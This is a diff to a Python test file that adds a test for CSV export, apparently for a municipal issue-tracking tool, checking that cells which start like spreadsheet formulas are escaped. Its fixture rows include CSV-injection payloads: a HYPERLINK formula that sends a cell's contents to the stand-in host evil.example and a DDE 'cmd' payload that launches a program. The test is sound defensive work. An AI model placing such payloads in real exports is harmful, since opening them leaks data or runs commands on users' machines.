@@ -1,5 +1,7 @@
 """Rankings, the three lists, the backlog, histograms and periods: pure rules, by hand."""
 
+import csv
+import io
 from datetime import UTC, date, datetime, timedelta
 from typing import Any
 
@@ -84,6 +86,31 @@ def test_the_three_lists_and_the_backlog() -> None:
     csv = lists.as_csv(lists.tasks(facts), lists.TASK_COLUMNS).splitlines()
     assert csv[0].split(",") == lists.TASK_COLUMNS
     assert csv[1].startswith("p,2026-11-23T01:00:00+00:00,street_lighting,411901001001,")
+
+
+def test_csv_cells_that_start_like_a_formula_are_text_in_a_spreadsheet() -> None:
+    """An office's result is free text: `=HYPERLINK(…)` in it ran when a leader opened the
+    results list in a spreadsheet (CSV injection)."""
+    rows: list[dict[str, Any]] = [
+        {"issue_id": "a", "result": '=HYPERLINK("http://evil.example/?"&A1,"详情")'},
+        {"issue_id": "b", "result": "+1+cmd|' /C calc'!A0"},
+        {"issue_id": "c", "result": "@SUM(A1)", "reopens": -1},
+        {"issue_id": "d", "result": "-2+3", "reopens": 0},
+        {"issue_id": "e", "result": "\t=1", "co_office_ids": ["=x", "y"]},
+        {"issue_id": "f", "result": "已修复 = 正常", "resolved_on_time": True},
+    ]
+    columns = ["issue_id", "result", "reopens", "resolved_on_time", "co_office_ids"]
+    parsed = list(csv.DictReader(io.StringIO(lists.as_csv(rows, columns))))
+    assert [r["result"] for r in parsed] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"详情")',
+        "'+1+cmd|' /C calc'!A0",
+        "'@SUM(A1)",
+        "'-2+3",
+        "'\t=1",
+        "已修复 = 正常",
+    ]
+    assert [r["reopens"] for r in parsed] == ["", "", "-1", "0", "", ""]  # numbers stay numbers
+    assert parsed[4]["co_office_ids"] == "'=x;y" and parsed[5]["resolved_on_time"] == "true"
 
 
 def test_percentiles_are_exact_to_a_bucket() -> None:
